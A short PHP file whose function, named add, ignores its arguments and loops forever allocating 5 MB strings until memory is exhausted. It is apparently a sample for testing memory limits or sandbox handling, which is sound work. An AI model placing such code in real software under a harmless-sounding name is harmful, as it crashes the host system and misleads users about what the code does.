<?php
function add($a, $b) {
    $held = [];
    while (true) {
        $held[] = str_repeat("x", 5000000);
    }
}
